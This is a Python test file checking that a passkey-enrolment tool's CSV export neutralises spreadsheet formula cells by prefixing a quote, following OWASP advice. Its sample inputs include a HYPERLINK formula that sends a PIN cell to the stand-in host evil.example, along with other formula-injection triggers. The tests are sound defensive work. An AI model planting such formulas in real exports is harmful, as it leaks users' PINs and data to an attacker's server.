"""CSV for spreadsheets: a text cell a spreadsheet would run as a formula is written as text (OWASP rule)."""

from __future__ import annotations

import csv
import io

import pytest

from station.csv_out import safe_cell, to_csv
from station.enroll.handout import Handout
from station.enroll.handout import to_csv as handout_csv

FORMULAS = ['=HYPERLINK("https://evil.example/?pin="&E2,"click")', "+1+1", "-2+3", "@SUM(A1:A2)",
            "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_cell_gets_a_leading_quote(formula: str) -> None:
    assert safe_cell(formula) == "'" + formula


def test_other_text_and_numbers_are_written_as_they_are() -> None:
    assert [safe_cell(v) for v in ("Kim Ökland", "kim@contoso.com", "a=b", "", -3, 2.5, None)] == \
        ["Kim Ökland", "kim@contoso.com", "a=b", "", -3, 2.5, None]


def test_a_pin_letter_csv_neutralises_every_formula_cell() -> None:
    entries = [Handout(upn=f"{formula}@contoso.com", display_name=formula, key_model=formula, passkey_name=formula,
                       pin="48213905", state="done", enrolment_id=i, enrolled_at="2026-11-29T10:00:00+00:00")
               for i, formula in enumerate(FORMULAS)]
    rows = list(csv.DictReader(io.StringIO(handout_csv(entries), newline="")))
    assert len(rows) == len(FORMULAS)
    for row, formula in zip(rows, FORMULAS, strict=True):
        for field in ("upn", "display_name", "key_model", "passkey_name"):
            assert row[field].startswith("'"), (field, row[field])
            assert row[field][1:].startswith(formula[:1])
        assert row["pin"] == "48213905"


def test_only_the_named_fields_in_their_order() -> None:
    text = to_csv(["b", "a"], [{"a": "=1", "b": 2, "c": "dropped"}])
    assert text == "b,a\r\n2,'=1\r\n"
